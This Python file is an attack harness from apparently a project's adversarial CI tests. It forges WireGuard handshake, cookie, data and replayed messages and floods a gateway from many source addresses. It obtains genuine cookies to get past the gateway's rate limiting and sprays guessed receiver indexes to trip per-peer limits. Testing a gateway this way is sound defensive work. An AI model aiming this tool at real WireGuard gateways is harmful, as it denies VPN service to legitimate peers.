"""Forged WireGuard messages for the adversarial tests (ci/adversarial.sh), and the
attacker that sends them. Python standard library only.

What an off-path attacker can compute knowing only the gateway's public key, and no more:

  mac1 = BLAKE2s-128(key = BLAKE2s-256("mac1----" || responder_public), msg[:-32])
  mac2 = BLAKE2s-128(key = cookie, msg[:-16])          (needs a cookie for its own address)

Everything else in a forged message (ephemeral keys, encrypted fields, tags) is random:
it never authenticates, which is the point: a gateway must not treat such a message as
coming from a peer. A cookie reply the gateway sends can be *opened* by the attacker
(XChaCha20-Poly1305 keyed by BLAKE2s-256("cookie--" || gateway_public), nonce from the
message, additional data = the mac1 of the message it answers), so the attacker can prove
the cookie is genuine and use it as mac2; that AEAD is implemented below from RFC 8439 and
draft-irtf-cfrg-xchacha (decryption only, slow, used for a handful of messages).

Message layouts (little-endian integers, WireGuard paper section 5.4):
  1 initiation 148 B: type u32 | sender u32 | ephemeral 32 | static 32+16 | timestamp 12+16 | mac1 16 | mac2 16
  2 response    92 B: type u32 | sender u32 | receiver u32 | ephemeral 32 | empty 0+16 | mac1 16 | mac2 16
  3 cookie      64 B: type u32 | receiver u32 | nonce 24 | cookie 16+16
  4 data    >= 32 B: type u32 | receiver u32 | counter u64 | ciphertext (padded plaintext) + 16

As a program (run inside the attacker's namespace) it sends one attack and prints one JSON
object with what it sent and what came back; see main().
"""

import argparse
import base64
import hashlib
import itertools
import json
import os
import random
import selectors
import signal
import socket
import struct
import sys
import time

MSG_INIT, MSG_RESPONSE, MSG_COOKIE, MSG_DATA = 1, 2, 3, 4
SIZE = {MSG_INIT: 148, MSG_RESPONSE: 92, MSG_COOKIE: 64}
LABEL_MAC1 = b"mac1----"
LABEL_COOKIE = b"cookie--"


def b64key(text):
    key = base64.b64decode(text.strip())
    if len(key) != 32:
        raise ValueError("a WireGuard key is 32 bytes")
    return key


# ---------------------------------------------------------------------------------------
# MACs (BLAKE2s from hashlib).

def mac1_key(responder_public):
    return hashlib.blake2s(LABEL_MAC1 + responder_public).digest()


def cookie_key(responder_public):
    return hashlib.blake2s(LABEL_COOKIE + responder_public).digest()


def mac16(key, data):
    return hashlib.blake2s(data, digest_size=16, key=key).digest()


def seal_macs(body, responder_public, cookie=None):
    """`body` is a handshake message without its two MACs; returns it with mac1 (valid for
    `responder_public`) and mac2 (valid for `cookie`, zeros without one)."""
    m1 = mac16(mac1_key(responder_public), body)
    m2 = mac16(cookie, body + m1) if cookie else bytes(16)
    return body + m1 + m2


# ---------------------------------------------------------------------------------------
# Builders.

def rand_index():
    return int.from_bytes(os.urandom(4), "little")


def initiation(responder_public, sender=None, cookie=None):
    """148-byte handshake initiation: random content, valid mac1, mac2 if `cookie`."""
    sender = rand_index() if sender is None else sender
    body = struct.pack("<II", MSG_INIT, sender) + os.urandom(32 + 48 + 28)
    return seal_macs(body, responder_public, cookie)


def response(responder_public, receiver, sender=None, cookie=None):
    """92-byte handshake response to `receiver` (an index the gateway handed out):
    random ephemeral and empty-payload tag, valid mac1 for the gateway's key."""
    sender = rand_index() if sender is None else sender
    body = struct.pack("<III", MSG_RESPONSE, sender, receiver) + os.urandom(32 + 16)
    return seal_macs(body, responder_public, cookie)


def cookie_reply(receiver):
    """64-byte cookie reply to `receiver`: random nonce and encrypted cookie."""
    return struct.pack("<II", MSG_COOKIE, receiver) + os.urandom(24 + 32)


def data(receiver, counter=0, payload_len=16):
    """Transport data message with a random ciphertext of `payload_len` bytes (>= 16)."""
    return struct.pack("<IIQ", MSG_DATA, receiver, counter) + os.urandom(max(16, payload_len))


def msg_type(buf):
    return buf[0] if len(buf) >= 4 and buf[1:4] == b"\0\0\0" else None


# ---------------------------------------------------------------------------------------
# XChaCha20-Poly1305 decryption, to open cookie replies (RFC 8439, draft-irtf-cfrg-xchacha).

_M32 = 0xFFFFFFFF
_SIGMA = struct.unpack("<4I", b"expand 32-byte k")


def _rounds(s):
    def qr(a, b, c, d):
        s[a] = (s[a] + s[b]) & _M32; s[d] ^= s[a]; s[d] = ((s[d] << 16) | (s[d] >> 16)) & _M32
        s[c] = (s[c] + s[d]) & _M32; s[b] ^= s[c]; s[b] = ((s[b] << 12) | (s[b] >> 20)) & _M32
        s[a] = (s[a] + s[b]) & _M32; s[d] ^= s[a]; s[d] = ((s[d] << 8) | (s[d] >> 24)) & _M32
        s[c] = (s[c] + s[d]) & _M32; s[b] ^= s[c]; s[b] = ((s[b] << 7) | (s[b] >> 25)) & _M32
    for _ in range(10):
        qr(0, 4, 8, 12); qr(1, 5, 9, 13); qr(2, 6, 10, 14); qr(3, 7, 11, 15)
        qr(0, 5, 10, 15); qr(1, 6, 11, 12); qr(2, 7, 8, 13); qr(3, 4, 9, 14)


def chacha20_block(key, counter, nonce12):
    init = list(_SIGMA) + list(struct.unpack("<8I", key)) + [counter] + \
        list(struct.unpack("<3I", nonce12))
    s = list(init)
    _rounds(s)
    return struct.pack("<16I", *((x + y) & _M32 for x, y in zip(s, init)))


def hchacha20(key, nonce16):
    s = list(_SIGMA) + list(struct.unpack("<8I", key)) + list(struct.unpack("<4I", nonce16))
    _rounds(s)
    return struct.pack("<8I", *(s[0:4] + s[12:16]))


def chacha20_xor(key, counter, nonce12, data_):
    out = bytearray()
    for i in range(0, len(data_), 64):
        ks = chacha20_block(key, counter + i // 64, nonce12)
        out += bytes(a ^ b for a, b in zip(data_[i:i + 64], ks))
    return bytes(out)


def poly1305(key, msg):
    r = int.from_bytes(key[:16], "little") & 0x0FFFFFFC0FFFFFFC0FFFFFFC0FFFFFFF
    s = int.from_bytes(key[16:32], "little")
    p = (1 << 130) - 5
    acc = 0
    for i in range(0, len(msg), 16):
        n = int.from_bytes(msg[i:i + 16] + b"\x01", "little")
        acc = (acc + n) * r % p
    return ((acc + s) & ((1 << 128) - 1)).to_bytes(16, "little")


def _pad16(b):
    return bytes(-len(b) % 16)


def chacha20poly1305_open(key, nonce12, ciphertext_and_tag, aad):
    """Plaintext, or None when the tag does not verify."""
    ct, tag = ciphertext_and_tag[:-16], ciphertext_and_tag[-16:]
    otk = chacha20_block(key, 0, nonce12)[:32]
    mac_data = aad + _pad16(aad) + ct + _pad16(ct) + struct.pack("<QQ", len(aad), len(ct))
    if not hmac_compare(poly1305(otk, mac_data), tag):
        return None
    return chacha20_xor(key, 1, nonce12, ct)


def xchacha20poly1305_open(key, nonce24, ciphertext_and_tag, aad):
    sub = hchacha20(key, nonce24[:16])
    return chacha20poly1305_open(sub, b"\0\0\0\0" + nonce24[16:], ciphertext_and_tag, aad)


def hmac_compare(a, b):
    import hmac
    return hmac.compare_digest(a, b)


def open_cookie_reply(reply, responder_public, answered_msg):
    """The 16-byte cookie in `reply` (a type-3 message from `responder_public` answering
    our handshake message `answered_msg`), or None if it does not authenticate."""
    if len(reply) != SIZE[MSG_COOKIE] or msg_type(reply) != MSG_COOKIE:
        return None
    nonce, enc = reply[8:32], reply[32:64]
    mac1 = answered_msg[-32:-16]
    return xchacha20poly1305_open(cookie_key(responder_public), nonce, enc, mac1)


# ---------------------------------------------------------------------------------------
# Reading captures (tcpdump -w): UDP datagrams over Ethernet, Linux cooked or raw IP.

def read_pcap_udp(path):
    """List of dicts (time, src, sport, dst, dport, payload) for the IPv4/IPv6 UDP
    datagrams in a classic pcap file; other frames are skipped. A capture cut short at
    the end (the capturing process was stopped) is read up to its last whole record."""
    with open(path, "rb") as f:
        raw = f.read()
    if len(raw) < 24:
        return []
    magic = raw[:4]
    if magic in (b"\xd4\xc3\xb2\xa1", b"\x4d\x3c\xb2\xa1"):
        e = "<"
    elif magic in (b"\xa1\xb2\xc3\xd4", b"\xa1\xb2\x3c\x4d"):
        e = ">"
    else:
        raise ValueError(f"{path}: not a classic pcap file")
    nano = magic in (b"\x4d\x3c\xb2\xa1", b"\xa1\xb2\x3c\x4d")
    linktype = struct.unpack(e + "I", raw[20:24])[0] & 0x0FFFFFFF
    out, off = [], 24
    while off + 16 <= len(raw):
        sec, frac, incl, _orig = struct.unpack(e + "IIII", raw[off:off + 16])
        frame = raw[off + 16:off + 16 + incl]
        off += 16 + incl
        if len(frame) < incl:
            break
        t = sec + frac / (1e9 if nano else 1e6)
        ip = _l3(linktype, frame)
        if ip is None:
            continue
        d = _udp(ip)
        if d is not None:
            d["time"] = t
            out.append(d)
    return out


def _l3(linktype, frame):
    if linktype == 1:  # Ethernet, possibly one VLAN tag
        et, body = struct.unpack(">H", frame[12:14])[0], frame[14:]
        if et == 0x8100:
            et, body = struct.unpack(">H", frame[16:18])[0], frame[18:]
        return body if et in (0x0800, 0x86DD) else None
    if linktype == 113:  # Linux cooked v1
        return frame[16:] if struct.unpack(">H", frame[14:16])[0] in (0x0800, 0x86DD) else None
    if linktype == 276:  # Linux cooked v2
        return frame[20:] if struct.unpack(">H", frame[0:2])[0] in (0x0800, 0x86DD) else None
    if linktype in (101, 12, 228, 229):  # raw IP
        return frame
    return None


def _udp(ip):
    if not ip:
        return None
    ver = ip[0] >> 4
    if ver == 4 and len(ip) >= 20 and ip[9] == 17:
        ihl = (ip[0] & 15) * 4
        src, dst = socket.inet_ntop(socket.AF_INET, ip[12:16]), socket.inet_ntop(socket.AF_INET, ip[16:20])
        flags_frag = struct.unpack(">H", ip[6:8])[0]
        if flags_frag & 0x1FFF:
            return None  # not the first fragment
        udp = ip[ihl:]
    elif ver == 6 and len(ip) >= 40 and ip[6] == 17:
        src, dst = socket.inet_ntop(socket.AF_INET6, ip[8:24]), socket.inet_ntop(socket.AF_INET6, ip[24:40])
        udp = ip[40:]
    else:
        return None
    if len(udp) < 8:
        return None
    sport, dport, ulen = struct.unpack(">HHH", udp[:6])
    return {"src": src, "sport": sport, "dst": dst, "dport": dport,
            "payload": udp[8:ulen] if ulen >= 8 else udp[8:]}


# ---------------------------------------------------------------------------------------
# Receiver-index guesses.

def small_index_bursts(max_peer=64, sessions=4, burst=12):
    """The indexes an attacker tries first when a gateway hands out small sequential peer
    indexes (peer << 8 | session): each peer 1..max_peer gets `burst` messages in a row,
    cycling over sessions 0..sessions-1, so a per-peer handshake rate limit (10/s in
    boringtun) trips for whichever peer exists."""
    for p in range(1, max_peer + 1):
        for k in range(burst):
            yield (p << 8) | (k % sessions)


def sweep_indexes(bits=16):
    """Every peer index 0 .. 2^bits - 1 (shifted left by 8, random session byte), in a
    random order: a sweep of part of the 24-bit index space."""
    order = list(range(1 << bits))
    random.shuffle(order)
    for p in order:
        yield (p << 8) | random.randrange(256)


def guessed_indexes(sweep_bits=16, chunk=1024, small_per_chunk=96):
    """The sweep of 2^sweep_bits peer indexes, with `small_per_chunk` messages of the
    small sequential guesses (bursts of 12 per peer, see small_index_bursts) before every
    `chunk` sweep messages, so the likely indexes are hit in bursts all along the attack
    (a steady spray), starting with the first messages."""
    sweep = sweep_indexes(sweep_bits)
    small = itertools.cycle(list(small_index_bursts()))
    while True:
        for _ in range(small_per_chunk):
            yield next(small)
        got = 0
        for r in itertools.islice(sweep, chunk):
            yield r
            got += 1
        if got < chunk:
            return


def guessed_total(sweep_bits=16, chunk=1024, small_per_chunk=96):
    n = 1 << sweep_bits
    return n + small_per_chunk * (n // chunk + 1)


# ---------------------------------------------------------------------------------------
# The attacker: send paced messages from many local addresses, count what comes back.

_STOP = [False]  # set by SIGTERM/SIGINT: stop sending, still report


class Attacker:
    def __init__(self, sources, target, port0=0):
        self.target = target
        self.socks = []
        self.sel = selectors.DefaultSelector()
        for i, a in enumerate(sources):
            fam = socket.AF_INET6 if ":" in a else socket.AF_INET
            s = socket.socket(fam, socket.SOCK_DGRAM)
            s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1 << 20)
            s.bind((a, port0 + i if port0 else 0))
            s.setblocking(False)
            self.socks.append(s)
            self.sel.register(s, selectors.EVENT_READ)
        self.sent = 0
        self.send_errors = 0
        self.received = {}          # message type (or "other") -> count
        self.received_from = {}     # gateway source "addr:port" -> count
        self.replies = []           # (sock index, bytes) of the first replies kept
        self.keep = 2000
        self.on_reply = None

    def _drain(self):
        for key, _ in self.sel.select(0):
            s = key.fileobj
            while True:
                try:
                    buf, frm = s.recvfrom(65535)
                except BlockingIOError:
                    break
                except OSError:
                    break
                t = msg_type(buf)
                k = str(t) if t in (1, 2, 3, 4) else "other"
                self.received[k] = self.received.get(k, 0) + 1
                f = f"{frm[0]}:{frm[1]}"
                self.received_from[f] = self.received_from.get(f, 0) + 1
                if self.on_reply:
                    self.on_reply(s, buf)
                if len(self.replies) < self.keep:
                    self.replies.append((s, buf))

    def run(self, messages, rate, deadline_s, linger_s=1.0, src_for=None):
        """Send every message of the iterable `messages` at about `rate` per second,
        rotating over the source sockets (or `src_for(i)` picks the socket index), and stop
        early at `deadline_s`. Returns (sent, seconds)."""
        t0 = time.monotonic()
        stop = t0 + deadline_s
        n = len(self.socks)
        for i, msg in enumerate(messages):
            now = time.monotonic()
            if now > stop or _STOP[0]:
                break
            due = t0 + i / rate
            if due > now:
                if due - now > 0.002:
                    self._drain()
                    time.sleep(max(0.0, due - time.monotonic()))
            s = self.socks[src_for(i) if src_for else i % n]
            try:
                s.sendto(msg, self.target)
                self.sent += 1
            except OSError:
                self.send_errors += 1
            if i % 16 == 0:
                self._drain()
        elapsed = time.monotonic() - t0
        end = time.monotonic() + linger_s
        while time.monotonic() < end:
            self._drain()
            time.sleep(0.01)
        return self.sent, elapsed

    def close(self):
        for s in self.socks:
            self.sel.unregister(s)
            s.close()


def attack(args):
    pub = b64key(args.gateway_public)
    sources = [a for a in args.sources.split(",") if a]
    host, port = args.target.rsplit(":", 1)
    target = (host.strip("[]"), int(port))
    atk = Attacker(sources, target)
    report = {"kind": args.kind, "sources": len(sources)}
    extra = {}
    try:
        if args.kind == "response":
            # Every message from a source that holds a cookie carries mac2: the attacker
            # gets all of them past the gateway's rate limiter.
            guesses = _indexes(args)

            def build(_i, sender, cookie):
                r = next(guesses, None)
                return None if r is None else response(pub, r, sender, cookie)
            sent, secs, extra = _cookie_aware(atk, pub, args, build, 1)
        elif args.kind == "cookie":
            msgs = (cookie_reply(r) for r in _limit(_indexes(args), args.count))
            sent, secs = atk.run(msgs, args.rate, args.deadline, linger_s=args.linger)
        elif args.kind == "init":
            sent, secs, extra = _cookie_aware(
                atk, pub, args, lambda _i, sender, cookie: initiation(pub, sender, cookie),
                args.mac2_every)
        elif args.kind == "replay":
            caps = [d["payload"] for d in read_pcap_udp(args.pcap)
                    if msg_type(d["payload"]) in (1, 2, 3, 4)]
            by_type = {}
            for p in caps:
                by_type[str(msg_type(p))] = by_type.get(str(msg_type(p)), 0) + 1
            extra["captured"] = by_type
            if not caps:
                raise SystemExit("replay: no WireGuard messages in the capture")
            msgs = (caps[i % len(caps)] for i in range(args.count))
            sent, secs = atk.run(msgs, args.rate, args.deadline)
        else:
            raise SystemExit(f"unknown attack {args.kind}")
    finally:
        atk.close()
    report.update(sent=sent, seconds=round(secs, 2), rate=round(sent / secs) if secs else 0,
                  send_errors=atk.send_errors, received=atk.received,
                  received_from=atk.received_from, **extra)
    print(json.dumps(report), flush=True)


def _indexes(args):
    """The receiver indexes to aim at: `--indexes` (known ones, e.g. read off captured
    traffic) cycled for ever, else the guesses."""
    if args.indexes:
        return itertools.cycle([int(x, 0) for x in args.indexes.split(",")])
    return guessed_indexes(args.sweep_bits)


def _limit(it, n):
    for i, x in enumerate(it):
        if i >= n:
            return
        yield x


def _cookie_aware(atk, pub, args, build, mac2_every):
    """Send `args.count` handshake messages `build(i, sender, cookie)` rotating over the
    sources, learning cookies as an attacker would: the first cookie reply a source gets
    is opened (proving it came from the holder of the gateway's key and answers our
    message; a refused mac2 means the secret rotated: open the new one), and from then on
    every `mac2_every`-th round of that source's messages carries a valid mac2, which
    must get the message past a rate limiter that is under load (no cookie back)."""
    sent_msgs = {}     # sender index -> (message, has_mac2)
    cookies = {}       # socket -> cookie
    opened_at = {}     # socket -> when its cookie was last opened (pure Python: slow)
    st = {"cookies_opened": 0, "cookies_bad": 0, "cookie_for_unknown": 0,
          "mac2_sent": 0, "mac2_cookied": 0}

    def on_reply(sock, buf):
        if msg_type(buf) != MSG_COOKIE or len(buf) != 64:
            return
        idx = struct.unpack("<I", buf[4:8])[0]
        m = sent_msgs.get(idx)
        if m is None:
            st["cookie_for_unknown"] += 1
            return
        msg, has_mac2 = m
        if has_mac2:
            st["mac2_cookied"] += 1
        if sock in cookies and (not has_mac2 or time.monotonic() - opened_at[sock] < 1.0):
            return
        opened_at[sock] = time.monotonic()
        c = open_cookie_reply(buf, pub, msg)
        if c is None:
            st["cookies_bad"] += 1
        else:
            st["cookies_opened"] += 1
            cookies[sock] = c

    atk.on_reply = on_reply
    n = len(atk.socks)

    def gen():
        for i in range(args.count):
            s = atk.socks[i % n]
            c = cookies.get(s)
            use_mac2 = c is not None and mac2_every and (i // n) % mac2_every == 0
            sender = rand_index()
            m = build(i, sender, c if use_mac2 else None)
            if m is None:
                return
            if len(sent_msgs) < 300000:
                sent_msgs[sender] = (m, bool(use_mac2))
            if use_mac2:
                st["mac2_sent"] += 1
            yield m

    sent, secs = atk.run(gen(), args.rate, args.deadline, linger_s=args.linger)
    return sent, secs, st


def main(argv=None):
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("kind", choices=("response", "cookie", "init", "replay"))
    ap.add_argument("--gateway-public", required=True, help="base64 public key")
    ap.add_argument("--target", required=True, help="gateway address:port")
    ap.add_argument("--sources", required=True, help="comma-separated local addresses")
    ap.add_argument("--count", type=int, default=20000)
    ap.add_argument("--rate", type=float, default=2000)
    ap.add_argument("--deadline", type=float, default=30, help="stop sending after this (s)")
    ap.add_argument("--linger", type=float, default=1.0, help="keep receiving after (s)")
    ap.add_argument("--sweep-bits", type=int, default=16)
    ap.add_argument("--indexes", help="response/cookie: these receiver indexes (comma-"
                    "separated) instead of guesses")
    ap.add_argument("--mac2-every", type=int, default=4,
                    help="init: every Nth round from a source with a cookie carries mac2")
    ap.add_argument("--pcap", help="replay: tcpdump -w capture to replay")
    def stop(_signum, _frame):
        _STOP[0] = True
    signal.signal(signal.SIGTERM, stop)
    signal.signal(signal.SIGINT, stop)
    attack(ap.parse_args(argv))


if __name__ == "__main__":
    main()
